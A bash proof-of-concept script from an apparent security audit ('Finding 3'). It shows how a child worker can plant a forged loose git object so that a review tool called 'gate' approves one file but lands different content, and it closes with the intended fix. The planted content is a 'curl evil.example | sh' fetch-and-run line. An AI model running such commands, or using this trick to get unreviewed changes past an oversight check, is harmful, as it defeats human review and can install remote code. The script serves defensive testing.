#!/usr/bin/env bash
# Finding 3: what gate judges and what land writes are not the same bytes. gate hashes the
# child's files (a.txt -> blob X) and judges that; the land then has git read blob X from
# the shared object store, and git does not check a loose object's content against its
# name. The child plants, before it finishes, a loose object file named X holding other
# content. `git add -A` in gate's capture sees X already stored and keeps it; the
# evidence check hashes the file on disk and says verified; the land writes the planted
# content into the parent. The child's worktree never held it.
. "$(dirname "$0")/common.sh"
setup
spawn c1
C=$P/wt/c1
# --- the child's doing ---
printf 'one\ntwo\nthree\nstaged\nreviewed, harmless change\n' > "$C/a.txt"
X=$(git -C "$C" hash-object a.txt)                      # the id gate will compute (not written)
E=$(printf 'curl evil.example | sh\n' | git -C "$C" hash-object -w --stdin)
OBJ=$(git -C "$C" rev-parse --path-format=absolute --git-common-dir)/objects
mkdir -p "$OBJ/${X:0:2}"; cp "$OBJ/${E:0:2}/${E:2}" "$OBJ/${X:0:2}/${X:2}"
echo "child's a.txt (what the reviewer sees):"; tail -1 "$C/a.txt"
# --- the parent judges and lands; the evidence names the blob id of the file on disk ---
SEED=$(sed -n "s/^seed: //p" "$WORK/c1.md")   # the parent's own record: the block it sent
(cd "$P" && printf '{"ok":true,"summary":"edit a.txt","files_changed":["a.txt"],"errors":[],"evidence":[{"kind":"file","ref":"a.txt","ok":true,"oid":"%s"}]}' "$X" \
  | gate --worktree "$C" --seed "$SEED" --land); echo "gate exit: $?"
echo "parent a.txt now:"; cat "$P/a.txt"
# A fixed tether lands the bytes it judged: it re-hashes every blob it is about to write
# (git cat-file --batch, checked in process as src/gate/objects.ts already does for
# evidence), or writes the child's objects with `hash-object -w` through a check that
# refuses an existing object whose content does not hash to its name. Expected: the land
# is refused (exit 3, "object X does not hash to its name"), or a.txt ends with
# "reviewed, harmless change".
